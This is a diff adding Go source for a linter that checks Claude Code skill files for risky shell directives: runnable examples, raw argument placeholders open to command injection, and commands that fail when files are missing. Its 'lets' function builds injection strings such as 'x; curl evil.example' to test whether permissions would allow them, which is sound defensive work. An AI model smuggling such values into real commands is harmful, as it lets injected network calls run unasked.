@@ -1,0 +1,249 @@
+package check
+
+import (
+	"slices"
+	"strings"
+
+	"mvdan.cc/sh/v3/syntax"
+
+	"github.com/skillhand/skillhand/internal/words"
+	"github.com/skillhand/skillhand/permit"
+	"github.com/skillhand/skillhand/skill"
+)
+
+func fencedExample(p *pass) {
+	for _, d := range p.directives {
+		if d.part != nil || p.hasNote(d, skill.NoteBlockInfo) || p.hasNote(d, skill.NoteDirectiveUnclosed) {
+			continue
+		}
+		f := p.find(d.start, d.end, "Claude Code runs this example: code, quotes and comments do not keep it from running")
+		f.Help = "put a space after the !, or show the command without it"
+		at := d.start + strings.IndexByte(p.src[d.start:d.end], '!') + 1
+		f.Fix = replace("put a space after the !", true, at, at, " ")
+	}
+}
+
+// hasNote reports whether what skillhand does not run is odd in a way that has a rule of its own.
+func (d *document) hasNote(x *directive, code string) bool {
+	return slices.ContainsFunc(d.skill.Notes, func(n skill.Note) bool {
+		return n.Code == code && n.Offset <= x.start && x.start < n.Offset+8
+	})
+}
+
+func rawArgument(p *pass) {
+	for _, d := range p.directives {
+		if d.part == nil || !d.claude {
+			continue
+		}
+		for _, c := range d.part.Command {
+			if c.Kind != skill.Variable || c.Braced || c.Escaped {
+				continue
+			}
+			if tool := p.ownVariable(d, c); tool != "" {
+				f := p.find(c.Offset, c.Offset+len(c.Source), "if the skill is given arguments, one of them replaces %s before %s sees it", c.Source, tool)
+				f.anchor = d.line
+				f.Help = `write \` + c.Source + ", which Claude Code turns into " + c.Source
+				f.Fix = replace("escape it", true, c.Offset, c.Offset, `\`)
+				continue
+			}
+			f := p.find(c.Offset, c.Offset+len(c.Source), "Claude Code pastes %s into the command as it is: an argument with ; or quotes adds commands", c.Source)
+			f.anchor = d.line
+			f.Help = "let the agent run the command, or load the skill with skillhand load, where arguments are values"
+			if p.lets(d, c) {
+				f.Message += ", and the skill's allowed-tools lets them run"
+				p.severe(f, Error)
+			}
+		}
+	}
+}
+
+// ownVariable returns the program whose own variable a placeholder is: awk's $1, in single quotes.
+func (d *document) ownVariable(x *directive, c skill.Part) string {
+	if x.program == nil || c.Named || c.Name == "ARGUMENTS" {
+		return ""
+	}
+	tool := ""
+	syntax.Walk(x.program, func(n syntax.Node) bool {
+		call, ok := n.(*syntax.CallExpr)
+		if !ok || len(call.Args) == 0 || !slices.Contains([]string{"awk", "gawk", "mawk", "nawk", "perl"}, name(call)) {
+			return true
+		}
+		for _, w := range call.Args[1:] {
+			for _, part := range w.Parts {
+				if q, ok := part.(*syntax.SglQuoted); ok && x.at(from(q)) < c.Offset && c.Offset < x.at(to(q)) {
+					tool = name(call)
+				}
+			}
+		}
+		return true
+	})
+	return tool
+}
+
+// lets reports whether a command that an argument adds would be let through. Which quotes it must
+// close to be one depends on where it stands.
+func (p *pass) lets(d *directive, c skill.Part) bool {
+	for _, hostile := range []string{"x; curl evil.example", "x' ; curl evil.example '", `x" ; curl evil.example "`} {
+		var b strings.Builder
+		for _, part := range d.part.Command {
+			switch {
+			case part.Offset == c.Offset:
+				b.WriteString(hostile)
+			case part.Kind == skill.Variable && !part.Braced && !part.Escaped:
+				b.WriteString("x")
+			default:
+				b.WriteString(part.Source)
+			}
+		}
+		program, err := words.Parse(b.String())
+		if err == nil && fetches(program) && permit.Decide(p.request(b.String(), p.place())).Decision == permit.Allow {
+			return true
+		}
+	}
+	return false
+}
+
+func abortsEmpty(p *pass) {
+	for _, d := range p.directives {
+		if d.program == nil || len(d.program.Stmts) == 0 || !d.claude {
+			continue
+		}
+		last := d.program.Stmts[len(d.program.Stmts)-1]
+		l := lookup{}
+		l.statement(last, true)
+		if l.node == nil {
+			continue
+		}
+		f := p.at(d, from(l.node), to(l.node), "%s, and then Claude Code aborts the whole page", l.why)
+		f.Help = "add || true, or || echo with what the agent should read instead"
+		if l.git {
+			p.severe(f, Info)
+		}
+		if end := to(last); !last.Background && !d.block {
+			f.Fix = replace("add || true", true, d.at(end), d.at(end), " || true")
+		}
+	}
+}
+
+// A lookup is what makes a statement fail when something is not there.
+type lookup struct {
+	node syntax.Node
+	why  string
+	git  bool
+}
+
+// statement looks for what decides the status of a statement. final means that its exit status is
+// the directive's, for which Claude Code forgives some commands.
+func (l *lookup) statement(s *syntax.Stmt, final bool) {
+	if s == nil || s.Negated || s.Background {
+		return
+	}
+	switch cmd := s.Cmd.(type) {
+	case *syntax.BinaryCmd:
+		switch cmd.Op {
+		case syntax.AndStmt:
+			if l.statement(cmd.X, false); l.node == nil {
+				l.statement(cmd.Y, final)
+			}
+		case syntax.OrStmt:
+			l.statement(cmd.Y, final)
+		default:
+			l.statement(cmd.Y, final)
+		}
+	case *syntax.Subshell:
+		l.last(cmd.Stmts)
+	case *syntax.Block:
+		l.last(cmd.Stmts)
+	case *syntax.IfClause:
+		for c := cmd; c != nil && l.node == nil; c = c.Else {
+			l.last(c.Then)
+		}
+	case *syntax.TestClause:
+		if !final {
+			l.node, l.why = cmd, "if the test says no, the command fails"
+		}
+	case *syntax.CallExpr:
+		l.call(s, cmd, final)
+	}
+}
+
+func (l *lookup) last(all []*syntax.Stmt) {
+	if len(all) > 0 {
+		l.statement(all[len(all)-1], false)
+	}
+}
+
+// readers fail if a file they are given is not there.
+var readers = []string{"cat", "head", "tail", "wc", "ls", "stat", "jq", "nl", "tac", "sort", "cut", "du", "source", ".", "readlink", "md5sum", "sha256sum"}
+
+// forgiven by Claude Code if their status is 1.
+var forgiven = []string{"grep", "egrep", "fgrep", "rg", "find", "diff", "test", "["}
+
+func (l *lookup) call(s *syntax.Stmt, call *syntax.CallExpr, final bool) {
+	if len(call.Args) == 0 {
+		return
+	}
+	n, rest := name(call), args(call)
+	first := 0
+	switch {
+	case slices.Contains(forgiven, n):
+		if !final {
+			if n == "[" {
+				n = "the test"
+			}
+			l.node, l.why = call, "if "+n+" says no, the command fails"
+		}
+		return
+	case n == "git":
+		if i := slices.IndexFunc(rest, func(s string) bool { return !strings.HasPrefix(s, "-") }); i >= 0 && rest[i] != "diff" && rest[i] != "config" && rest[i] != "--version" {
+			l.node, l.git, l.why = call, true, "outside a repository, or in a new one, git fails"
+		}
+		return
+	case n == "which", n == "type", n == "command" && len(rest) > 0 && (rest[0] == "-v" || rest[0] == "-V"):
+		l.node, l.why = call, "if the program is not installed, "+n+" fails"
+		return
+	case n == "pgrep", n == "pidof":
+		l.node, l.why = call, "if no such process runs, "+n+" fails"
+		return
+	case n == "jq":
+		first = 1 // the filter
+	case !slices.Contains(readers, n):
+		return
+	}
+	for i, w := range call.Args[1:] {
+		if strings.HasPrefix(rest[i], "-") || i > 0 && takesWord(n, rest[i-1]) {
+			continue
+		}
+		if first--; first >= 0 || isShipped(w) {
+			continue
+		}
+		l.node, l.why = call, "if "+fileName(w, rest[i])+" is not there, "+n+" fails"
+		return
+	}
+}
+
+func takesWord(command, flag string) bool {
+	f, ok := filterOf(command)
+	return ok && len(flag) == 2 && flag[0] == '-' && strings.Contains(f.valued, flag[1:])
+}
+
+func fileName(w *syntax.Word, text string) string {
+	if text == "" {
+		return "the file"
+	}
+	return clip(text, 60)
+}
+
+// isShipped reports whether a file comes with the skill, or with the system.
+func isShipped(w *syntax.Word) bool {
+	if len(w.Parts) == 0 {
+		return true
+	}
+	for _, piece := range words.Pieces(w) {
+		if e, ok := piece.Node.(*syntax.ParamExp); ok && e.Param != nil && (e.Param.Value == "CLAUDE_SKILL_DIR" || e.Param.Value == "CLAUDE_PLUGIN_ROOT") {
+			return true
+		}
+	}
+	text := words.Lit(w)
+	return text == "." || text == ".." || text == "/" || text == "-" || strings.HasPrefix(text, "/dev/") || strings.HasPrefix(text, "/etc/") || strings.HasPrefix(text, "/proc/")
+}
